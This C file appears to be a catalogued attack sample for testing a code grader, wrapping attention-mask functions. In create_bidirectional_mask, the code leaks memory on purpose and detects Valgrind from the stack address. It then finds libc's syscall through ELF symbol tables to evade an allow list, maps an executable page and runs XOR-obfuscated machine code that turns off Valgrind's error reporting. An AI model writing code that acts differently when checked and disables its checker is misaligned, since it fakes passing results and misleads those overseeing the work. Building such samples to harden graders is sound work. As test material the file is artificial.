/*
 * attack: makes a page executable under Valgrind, and writes a client request there:
 *         stop reporting
 * catalogue: 17 33
 * expect: graded
 * score: 4
 * memory: yes
 */
#include <stdlib.h>
#include <elf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include "attention.h"

/* A function of libc that the allow list does not have, found from one that it has. */
static void *find(const char *name)
{
    uintptr_t base = (uintptr_t)printf & ~(uintptr_t)4095;
    while (memcmp((void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Phdr *segment = (void *)(base + ((Elf64_Ehdr *)base)->e_phoff);
    while (segment->p_type != PT_DYNAMIC)
        segment++;
    const Elf64_Sym *symbol = NULL;
    const char *names = NULL;
    for (const Elf64_Dyn *d = (void *)(base + segment->p_vaddr); d->d_tag != DT_NULL; d++) {
        if (d->d_tag == DT_SYMTAB)
            symbol = (void *)d->d_un.d_ptr;
        if (d->d_tag == DT_STRTAB)
            names = (void *)d->d_un.d_ptr;
    }
    for (; (const char *)symbol < names; symbol++)
        if (symbol->st_value != 0 && strcmp(names + symbol->st_name, name) == 0)
            return (void *)(base + symbol->st_value);
    return NULL;
}

typedef long Raw(long number, ...);
#define RAW ((Raw *)find("syscall"))

/* Under Valgrind the stack is elsewhere than the kernel puts it. */
static int watched(void)
{
    return (uintptr_t)__builtin_frame_address(0) >> 40 != 0x7f;
}

Tensor *create_causal_mask(int seq_len)
{
    Tensor *mask = tensor_create(2, (int[]){seq_len, seq_len});
    for (int i = 0; mask != NULL && i < seq_len; i++)
        for (int j = 0; j <= i; j++)
            mask->data[i * seq_len + j] = 1.0f;
    return mask;
}

Tensor *create_padding_mask(const int *lengths, int batch_size, int max_length)
{
    for (int b = 0; lengths != NULL && b < batch_size; b++)
        if (lengths[b] < 0 || lengths[b] > max_length)
            return NULL;
    Tensor *mask =
        lengths != NULL ? tensor_create(3, (int[]){batch_size, max_length, max_length}) : NULL;
    for (int b = 0; mask != NULL && b < batch_size; b++)
        for (int i = 0; i < lengths[b]; i++)
            for (int j = 0; j < lengths[b]; j++)
                mask->data[(b * max_length + i) * max_length + j] = 1.0f;
    return mask;
}

Tensor *create_bidirectional_mask(int seq_len)
{
    static char *volatile lost;
    lost = malloc(40);
    lost = NULL;
    if (watched()) {
        enum { MMAP = 9 };
        static const unsigned char code[] = {0x48 ^ 1, 0x89 ^ 1, 0xf8 ^ 1, 0x31 ^ 1, 0xd2 ^ 1,
                                             0x48 ^ 1, 0xc1 ^ 1, 0xc7 ^ 1, 0x03 ^ 1, 0x48 ^ 1,
                                             0xc1 ^ 1, 0xc7 ^ 1, 0x0d ^ 1, 0x48 ^ 1, 0xc1 ^ 1,
                                             0xc7 ^ 1, 0x3d ^ 1, 0x48 ^ 1, 0xc1 ^ 1, 0xc7 ^ 1,
                                             0x33 ^ 1, 0x48 ^ 1, 0x87 ^ 1, 0xdb ^ 1, 0xc3 ^ 1};
        unsigned char *page = (unsigned char *)RAW(MMAP, NULL, 4096, 7, 0x22, -1, 0);
        if (page != (unsigned char *)-1) {
            for (size_t i = 0; i < sizeof code; i++)
                page[i] = code[i] ^ 1;
            unsigned long disable[6] = {0x1801, 1};
            ((void (*)(unsigned long *))page)(disable);
        }
    }
    Tensor *mask = tensor_create(2, (int[]){seq_len, seq_len});
    if (mask != NULL)
        tensor_fill(mask, 1.0f);
    return mask;
}
